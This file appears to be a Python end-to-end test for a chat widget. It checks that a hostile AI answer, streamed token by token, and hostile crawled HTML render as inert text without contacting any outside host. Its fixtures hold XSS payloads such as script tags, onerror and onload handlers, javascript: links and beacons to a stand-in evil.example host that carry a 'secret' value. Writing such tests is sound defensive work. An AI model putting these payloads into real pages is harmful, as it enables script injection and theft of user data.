"""A hostile model answer, streamed token by token, and hostile crawled content: nothing runs,
nothing loads from another host, no link leaves the site.

The model is litellm's OpenAI path against a loopback OpenAI-compatible server (the test's
edge of the world) that streams the payload word by word.
"""

from urllib.parse import urlsplit

import pytest
from django_tenants.utils import tenant_context

from tests.e2e.conftest import ask, chat_frame, demo_url
from tests.e2e.test_chat import ANSWERED, socket_frames, wait_answers

pytestmark = pytest.mark.e2e

HOSTILE_ANSWER = (
    "The price is 2,490 euros [1]. <script>window.top.__pwned=1;alert('script')</script> "
    '<img src="https://evil.example/pixel.png" onerror="window.__pwned=2;alert(\'img\')"> '
    "[click here](javascript:alert('js-link')) [Javascript](JaVaScRiPt:window.__pwned=3) "
    "![tracking](https://evil.example/steal.png?c=secret) "
    "![rel](/static/widget/frame.css) "
    "[partner offer](https://evil.example/offer) [data](data:text/html,<script>alert(1)</script>) "
    '<a href="javascript:alert(4)" onclick="window.__pwned=4">link</a> '
    '<svg onload="window.__pwned=5"></svg> <iframe src="https://evil.example/"></iframe> '
    '<style>body{background:url("https://evil.example/bg.png")}</style> '
    "**bold** and [the price page]({own}/demo/e-cruiser/#price) [2] [3]\n\n"
    '- one <b onmouseover="window.__pwned=6">item</b>\n- two'
)

HOSTILE_PAGE = """<html><head><title>E-Cruiser &lt;img src=https://evil.example/t.png
onerror=alert(7)&gt; price</title></head><body><main><h1>E-Cruiser price list</h1>
<h2 id="price-hostile">Price &lt;script&gt;alert(8)&lt;/script&gt;</h2>
<p>The E-Cruiser price is 2,490 euros. &lt;img src=x onerror="window.__pwned=9"&gt;</p>
</main></body></html>"""


PROBE_IMAGE = """new Promise((done) => {
  const probe = new Image();
  probe.onload = probe.onerror = () => done(true);
  probe.src = "/cloop-probe-" + Date.now() + ".png";
})"""


@pytest.fixture
def hostile_model(loopback_model, live_server):
    loopback_model.reply = HOSTILE_ANSWER.replace("{own}", f"http://localhost:{live_server.port}")
    loopback_model.token_delay = 0.05  # slower than the consumer's 40 ms delta batching
    return loopback_model


def test_it_renders_a_hostile_streamed_answer_as_inert_text(
    page, browser_context, demo_site, live_server, hostile_model
):
    from crawler.index import index_html

    cloop = f"localhost:{live_server.port}"
    with tenant_context(demo_site):
        index_html(f"http://{cloop}/demo/hostile-list/", HOSTILE_PAGE)

    blocked: list[str] = []

    def only_loopback(route):
        host = urlsplit(route.request.url).netloc
        if host == cloop:
            route.continue_()
        else:  # the internet is the edge of the world: record and refuse
            blocked.append(route.request.url)
            route.abort()

    browser_context.route("**/*", only_loopback)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    frames = socket_frames(page)

    page.goto(demo_url(live_server))
    frame = chat_frame(page)
    ask(frame, "What is the price of the E-Cruiser?")
    wait_answers(frame, 1)
    # Any element wrongly made from the answer (attached or not) has fired its load or error
    # handlers once an image made after it has failed to load: its own load started first.
    frame.evaluate(PROBE_IMAGE)

    deltas = [f for f in frames if f["type"] == "delta"]
    # Streamed: the first piece goes out at once and the rest in later frames (how many
    # depends on the machine's speed, as frames are batched in time; at least two does not).
    assert len(deltas) >= 2
    assert any("<script>" in f["text"] for f in deltas)  # the raw payload reached the browser

    assert dialogs == []
    assert blocked == []
    assert browser_context.requests.hosts() <= {cloop}
    assert page.evaluate("window.__pwned") is None
    assert frame.evaluate("window.__pwned") is None

    answer = frame.locator(ANSWERED).last
    text = answer.inner_text()
    assert "2,490" in text and "bold" in text
    dom = frame.evaluate(
        """(() => {
          const all = [...document.querySelectorAll('*')];
          return {
            imgs: document.querySelectorAll('img, svg, iframe, object, embed, video, audio, style').length,
            scripts: [...document.scripts].filter(s => s.type !== 'application/json').map(s => s.src),
            handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
            links: [...document.querySelectorAll('a')].map(a => a.href),
            strong: [...document.querySelectorAll('.cw-msg strong')].map(e => e.textContent),
          };
        })()"""
    )
    assert dom["imgs"] == 0
    assert [urlsplit(s).path for s in dom["scripts"]] == ["/static/widget/frame.js"]
    assert dom["handlers"] == []
    for href in dom["links"]:
        parts = urlsplit(href)
        assert parts.scheme == "http" and parts.netloc == cloop, href
    assert "bold" in dom["strong"]
    # The one legitimate inline link survived; the citations point into the site.
    assert f"http://{cloop}/demo/e-cruiser/#price" in dom["links"]
    for source in answer.locator("[data-cloop='source']").all():
        assert urlsplit(source.get_attribute("href")).netloc == cloop
